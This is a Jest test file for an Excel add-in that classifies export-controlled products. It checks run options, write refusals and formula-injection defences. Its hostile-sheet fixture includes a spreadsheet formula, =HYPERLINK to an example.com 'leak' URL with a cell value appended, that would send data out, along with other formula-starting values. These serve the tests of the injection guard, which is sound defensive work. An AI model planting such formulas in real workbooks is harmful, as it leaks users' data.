/**
 * Hardening of the add-in's Excel layer (issue 8):
 * - run options: delayForCellEdit (ExcelApi 1.11) on every batch and mergeUndoGroup (1.20) on
 *   every batch that writes, passed only where the host supports them; a cell edit during a run
 *   makes the run wait rather than fail;
 * - refusals before anything is written: a protected sheet, the user's data in EARmark's place,
 *   a region over what the pane can hold;
 * - a hostile sheet (error values, formulas, dates, numbers stored as text, blank rows inside the
 *   data, duplicate and missing headers, non-Latin text, a 40,000-character cell): every row gets
 *   a result or a warning, and no cell EARmark writes can start a formula.
 */
import {
  Engine,
  OUTPUT_HEADERS,
  OUTPUT_WIDTH,
  locateHeader,
  neutralizeFormula,
  outputCells,
  readCatalogRows,
  type Determination,
} from '../../src/engine';
import {
  CatalogTooLargeError,
  MAX_CATALOG_CELLS,
  MAX_CATALOG_COLUMNS,
  WriteRefusedError,
  appendAuditLines,
  loadMapping,
  readCatalogRegion,
  runOptionsFor,
  saveMapping,
  writeOutputBlock,
  writeReviewColumns,
} from '../../src/excel';
import { bundledPack } from '../../src/rules/bundledPack';
import { FakeWorkbook, type FakeCell, type FixtureValue } from '../fakes';
import { catalogGrid, withFake } from './helpers';

const FORMULA_START = /^[=+\-@]/;
const SHEET = 'Catalog';

let engine: Engine;
beforeAll(() => {
  engine = new Engine(bundledPack());
});

/** A run's writes, as runClassification makes them (output block, review columns, settings, audit). */
async function classifySheet() {
  const region = await readCatalogRegion();
  const mapping = locateHeader(region.grid, await loadMapping());
  if (!mapping) throw new Error('no header row');
  const { rows, skipped } = readCatalogRows(region.grid, mapping, region.firstRow);
  const results = engine.determineAll(rows);
  const headerRow = region.firstRow + mapping.headerRow;
  const column = region.firstColumn + mapping.outputColumn;
  const written = await writeOutputBlock({
    sheetName: region.sheetName,
    headerRow,
    column,
    headers: [...OUTPUT_HEADERS],
    rows: results.map((d) => ({ row: d.row, cells: outputCells(d), status: d.status })),
  });
  await writeReviewColumns(
    { sheetName: region.sheetName, headerRow, column: column + OUTPUT_WIDTH },
    results.map((d) => ({ row: d.row, fingerprint: 'fp', pending: true, changed: false })),
  );
  await saveMapping({ fields: {} });
  await appendAuditLines([{ when: '2026-01-01T00:00:00Z', who: '=cmd', event: 'Run', rows: '', rulesVersion: 'v', effectiveDate: '2026-07-23', screeningList: 'none', rowsRead: 1, counts: '', rowsChanged: '', note: '-note' }]);
  return { region, mapping, rows, skipped, results, headerRow, column, written };
}

describe('Excel.run options (runInExcel)', () => {
  const cases: Array<[string, { read: object; write: object }]> = [
    ['1.9', { read: {}, write: {} }],
    ['1.11', { read: { delayForCellEdit: true }, write: { delayForCellEdit: true } }],
    ['1.19', { read: { delayForCellEdit: true }, write: { delayForCellEdit: true } }],
    ['1.20', { read: { delayForCellEdit: true }, write: { delayForCellEdit: true, mergeUndoGroup: true } }],
  ];

  it.each(cases)('ExcelApi %s: options passed only where supported, undo group only on writes', async (version, expected) => {
    const wb = withFake(FakeWorkbook.fromGrid(SHEET, catalogGrid(5), { excelApiVersion: version }));
    expect(runOptionsFor({ writes: false })).toEqual(expected.read);
    expect(runOptionsFor({ writes: true })).toEqual(expected.write);
    await classifySheet();
    const runs = wb.stats.runOptions;
    // readCatalogRegion, loadMapping, writeOutputBlock, writeReviewColumns, saveMapping, appendAuditLines.
    expect(runs).toEqual([expected.read, expected.read, expected.write, expected.write, expected.write, expected.write]);
  });

  it('the fake refuses an option the host lacks (so the feature detection is what keeps runs working)', async () => {
    withFake(FakeWorkbook.fromGrid(SHEET, [['x']], { excelApiVersion: '1.10' }));
    const excel = (globalThis as unknown as { Excel: typeof Excel }).Excel;
    await expect(excel.run({ delayForCellEdit: true }, async () => undefined)).rejects.toMatchObject({ code: 'InvalidArgument' });
  });

  it('a cell edit during a run: the write waits for the edit to end, then completes (ExcelApi 1.11+)', async () => {
    const wb = withFake(FakeWorkbook.fromGrid(SHEET, catalogGrid(20), { excelApiVersion: '1.11' }));
    const region = await readCatalogRegion();
    const mapping = locateHeader(region.grid)!;
    const results = engine.determineAll(readCatalogRows(region.grid, mapping, region.firstRow).rows);
    wb.startCellEdit();
    let settled = false;
    const write = writeOutputBlock({
      sheetName: SHEET,
      headerRow: 1,
      column: mapping.outputColumn,
      headers: [...OUTPUT_HEADERS],
      rows: results.map((d) => ({ row: d.row, cells: outputCells(d), status: d.status })),
    });
    write.then(
      () => (settled = true),
      () => (settled = true),
    );
    for (let i = 0; i < 20; i++) await Promise.resolve();
    expect(settled).toBe(false);
    expect(wb.stats.delayedForCellEdit).toBe(1);
    expect(wb.values(SHEET, 'G1')).toEqual([['']]);
    wb.endCellEdit();
    await expect(write).resolves.toEqual({ rowsWritten: 20, cancelled: false });
    expect(wb.values(SHEET, 'G1')).toEqual([[OUTPUT_HEADERS[0]]]);
  });

  it('without ExcelApi 1.11 a cell edit fails the batch (as Excel does), and nothing is written', async () => {
    const wb = withFake(FakeWorkbook.fromGrid(SHEET, catalogGrid(3), { excelApiVersion: '1.9' }));
    const before = wb.snapshot(SHEET);
    wb.startCellEdit();
    await expect(
      writeOutputBlock({ sheetName: SHEET, headerRow: 1, column: 6, headers: [...OUTPUT_HEADERS], rows: [] }),
    ).rejects.toMatchObject({ code: 'InvalidOperationInCellEditMode' });
    expect(wb.snapshot(SHEET)).toEqual(before);
  });
});

describe('refusals before anything is written', () => {
  const snapshotAll = (wb: FakeWorkbook) => wb.sheets.map((s) => [s.name, wb.snapshot(s.name)] as const);

  it('a protected sheet: refused with a message that says how to go on, nothing changed', async () => {
    const wb = withFake(FakeWorkbook.fromFixtures([{ sheetName: SHEET, grid: catalogGrid(4), protected: true }]));
    const before = snapshotAll(wb);
    const error = await classifySheet().catch((e: unknown) => e);
    expect(error).toBeInstanceOf(WriteRefusedError);
    expect(error).toMatchObject({ reason: 'protected' });
    expect((error as Error).message).toMatch(/protected.*Unprotect/);
    expect(snapshotAll(wb)).toEqual(before);
  });

  it("the user's data where the block would go: refused, the cell named, nothing changed", async () => {
    const grid = catalogGrid(4);
    const wb = withFake(FakeWorkbook.fromGrid(SHEET, grid));
    // A value under the block's first column, on a data row but not in the header row.
    wb.requireSheet(SHEET).setValue(3, 6, 'my own note');
    // …which widens the used range, but the header row still ends at column F.
    const before = snapshotAll(wb);
    const error = await classifySheet().catch((e: unknown) => e);
    expect(error).toBeInstanceOf(WriteRefusedError);
    expect(error).toMatchObject({ reason: 'userData', cells: ['Catalog!G4'] });
    expect((error as Error).message).toMatch(/would overwrite data it did not put there — Catalog!G4/);
    expect(snapshotAll(wb)).toEqual(before);
  });

  it(`a used range wider than ${MAX_CATALOG_COLUMNS} columns (a stray value far right): refused before reading a cell`, async () => {
    const wb = withFake(FakeWorkbook.fromGrid(SHEET, catalogGrid(10)));
    wb.requireSheet(SHEET).setValue(4, MAX_CATALOG_COLUMNS + 5, 'stray');
    const before = snapshotAll(wb);
    const error = await readCatalogRegion().catch((e: unknown) => e);
    expect(error).toBeInstanceOf(CatalogTooLargeError);
    expect((error as Error).message).toMatch(/used range of the sheet \(Catalog!A1:ALR11\) is 11 rows × 1,006 columns.*Nothing on the sheet was changed.*clear it/);
    expect(wb.stats.cellsRead).toBe(0);
    expect(snapshotAll(wb)).toEqual(before);
  });

  it(`a region over ${MAX_CATALOG_CELLS.toLocaleString('en-US')} cells: refused before reading a cell; at the limit it is read`, async () => {
    const wb = withFake(FakeWorkbook.fromGrid(SHEET, catalogGrid(3)));
    const sheet = wb.requireSheet(SHEET);
    // 6 columns: the limit is 416,666 rows; a value on row 416,667 puts the range one row over it.
    const rowsAtLimit = Math.floor(MAX_CATALOG_CELLS / 6);
    sheet.setValue(rowsAtLimit, 0, 'end');
    await expect(readCatalogRegion()).rejects.toBeInstanceOf(CatalogTooLargeError);
    expect(wb.stats.cellsRead).toBe(0);
    sheet.setValue(rowsAtLimit, 0, null);
    sheet.setValue(rowsAtLimit - 1, 0, 'end');
    const read = await readCatalogRegion();
    expect(read.rowCount * read.columnCount).toBeLessThanOrEqual(MAX_CATALOG_CELLS);
    expect(read.rowCount).toBe(rowsAtLimit);
  });

  it('a table holding the selection is held to the same limit, with advice for tables', async () => {
    const wb = withFake(FakeWorkbook.fromGrid(SHEET, catalogGrid(3)));
    wb.addTable(SHEET, 'Big', `A1:${'ALM'}5`);
    wb.select(SHEET, 'B2');
    await expect(readCatalogRegion()).rejects.toThrow(/table holding the selection.*1,001 columns.*Classify part of it at a time/);
  });
});

describe('a hostile sheet in the add-in', () => {
  const LONG = 'Multi-layer ceramic capacitor assembly, '.repeat(1000).slice(0, 40_000);
  // Title rows; a header row with a duplicate ("ECCN" twice), a column with no header, and a
  // non-Latin attribute header; error values and formulas (with their cached values); a date
  // (serial number); numbers stored as text; blank rows inside the data; non-Latin text.
  const grid: FixtureValue[][] = [
    ['Product catalog — CONFIDENTIAL', null, null, null, null, null, null],
    [null, null, null, null, null, null, null],
    ['Part Number', 'Description', 'ECCN', 'Destination', 'Value', 'ECCN', '重量'],
    ['P-1', 'Thermal camera', '6A003.b.4', 'Germany', '1,200.50', 'EAR99', '1.2 kg'],
    ['P-2', '#N/A', '#REF!', 'China', 45_000, null, null],
    [null, null, null, null, null, null, null],
    ['P-3', '=SUM(A1:A3)', '+3A001', '-Germany', '@SUM(1)', null, null],
    ['P-4', LONG, 'EAR99', '中国', '#VALUE!', null, null],
    ['Р-5', 'Датчик давления', '5A002', 'Россия', '12 000', null, null],
    [null, null, null, null, null, null, null],
    ['P-6', 'Gasket', 'EAR99', 'مصر', true, null, null],
    ['=HYPERLINK("http://example.com/leak?"&A4,"x")', 'Formula text in the part number', '', 'Japan', -5, null, null],
    ['P-8', null, null, null, null, null, null],
  ];
  // Formulas with their cached values, as Excel keeps them.
  const formulas: Array<{ row: number; col: number; cell: FakeCell }> = [
    { row: 3, col: 4, cell: { value: 1200.5, formula: '=1200.5' } },
    { row: 4, col: 2, cell: { value: '#REF!', formula: '=Sheet2!#REF!' } },
    { row: 7, col: 4, cell: { value: '#VALUE!', formula: '="a"+1' } },
  ];

  function hostileWorkbook(): FakeWorkbook {
    return withFake(FakeWorkbook.fromFixtures([{ sheetName: SHEET, grid, cells: formulas }]));
  }

  it('every non-blank row gets a result or a clear warning, the run goes on, and input cells are untouched', async () => {
    const wb = hostileWorkbook();
    const before = wb.snapshot(SHEET);
    const run = await classifySheet();
    expect(run.headerRow).toBe(3);
    // Data ends at the last named header (G); the block starts at H.
    expect(run.column).toBe(7);
    const expectedRows = [4, 5, 7, 8, 9, 11, 12, 13];
    expect(run.results.map((d) => d.row)).toEqual(expectedRows);
    expect(run.skipped).toBe(2);
    expect(run.written).toEqual({ rowsWritten: expectedRows.length, cancelled: false });
    for (const d of run.results) {
      expect(['CLEAR', 'FLAGGED', 'NEEDS_REVIEW']).toContain(d.status);
      // Not CLEAR means the row says why.
      if (d.status !== 'CLEAR') expect(d.warnings.length + d.screening.length).toBeGreaterThan(0);
    }
    const byRow = new Map<number, Determination>(run.results.map((d) => [d.row, d]));
    expect(byRow.get(5)!.warnings.map((w) => w.code)).toContain('INVALID_ECCN'); // #REF! as an ECCN
    expect(byRow.get(7)!.warnings.map((w) => w.code)).toContain('INVALID_ECCN'); // +3A001
    expect(byRow.get(13)!.status).toBe('NEEDS_REVIEW'); // no ECCN, no destination
    // Every input cell (values, formulas, formats) as it was.
    const after = wb.snapshot(SHEET);
    for (const [key, cell] of before) expect([key, after.get(key)]).toEqual([key, cell]);
  });

  it('no cell EARmark writes starts with = + - @, and every one is text (format "@"), never a formula', async () => {
    const wb = hostileWorkbook();
    const run = await classifySheet();
    const sheet = wb.requireSheet(SHEET);
    const ours = [...sheet.entries()].filter((e) => e.row >= run.headerRow - 1 && e.col >= run.column && e.cell.value !== '');
    expect(ours.length).toBeGreaterThan(OUTPUT_WIDTH * run.results.length);
    for (const { row, col, cell } of ours) {
      expect([row, col, cell.formula]).toEqual([row, col, undefined]);
      expect([row, col, cell.numberFormat]).toEqual([row, col, '@']);
      expect([row, col, typeof cell.value === 'string' && FORMULA_START.test(cell.value)]).toEqual([row, col, false]);
    }
    // The audit sheet keeps what a person typed (a name, a note) verbatim — it is a record — but
    // as text: a reviewer called "=cmd" is never a formula.
    const audit = [...wb.requireSheet('EARmark Audit').entries()].filter((e) => e.row > 0 && typeof e.cell.value === 'string' && e.cell.value !== '');
    expect(audit.map((e) => e.cell.value)).toContain('=cmd');
    for (const { cell } of audit) expect([cell.value, cell.formula, cell.numberFormat]).toEqual([cell.value, undefined, '@']);
  });

  /**
   * The apostrophe decision. outputCells prefixes text that would start a formula with "'"
   * (neutralizeFormula), for the CLI's CSV. In the pane the block is formatted as text ("@")
   * before values are written, so Excel would not evaluate "=…" anyway, and in a text-formatted
   * cell the apostrophe is kept as a character (it shows). EARmark keeps it in Excel too, on
   * purpose: the text still leaves the workbook — copied into another spreadsheet, saved as CSV
   * (Excel writes the cell's text, not its format) — where a leading "=" would run. The guard
   * fires only on text that starts with = + - @; EARmark's own text never does (the engine
   * quotes what it echoes), so in practice it is a screening-list name that does. The pane and
   * the CLI's .xlsx show the same text.
   */
  it('a screening name that would start a formula is written with the visible apostrophe, as in the CLI', async () => {
    const wb = withFake(FakeWorkbook.fromGrid(SHEET, catalogGrid(1)));
    const [base] = engine.determineAll([{ ...emptyRow(2), eccn: 'EAR99', destination: 'Germany' }]);
    const hit = { ...base, status: 'FLAGGED' as const, screening: [{ name: '=HYPERLINK("http://example.com","click")', list: 'SDN', score: 0.97 }] };
    const cells = outputCells(hit);
    expect(cells[5]).toBe(`'=HYPERLINK("http://example.com","click") [SDN] 97%`);
    expect(neutralizeFormula(cells[5])).toBe(cells[5]); // already safe: not prefixed twice
    await writeOutputBlock({ sheetName: SHEET, headerRow: 1, column: 6, headers: [...OUTPUT_HEADERS], rows: [{ row: 2, cells, status: hit.status }] });
    const cell = wb.requireSheet(SHEET).cell(1, 6 + 5)!;
    expect(cell).toMatchObject({ value: cells[5], numberFormat: '@' });
    expect(cell.formula).toBeUndefined();
  });
});

function emptyRow(row: number) {
  const [d] = readCatalogRows(
    [
      ['Part Number', 'ECCN'],
      ['x', null],
    ],
    locateHeader([
      ['Part Number', 'ECCN'],
      ['x', null],
    ])!,
    row - 1,
  ).rows;
  return d;
}
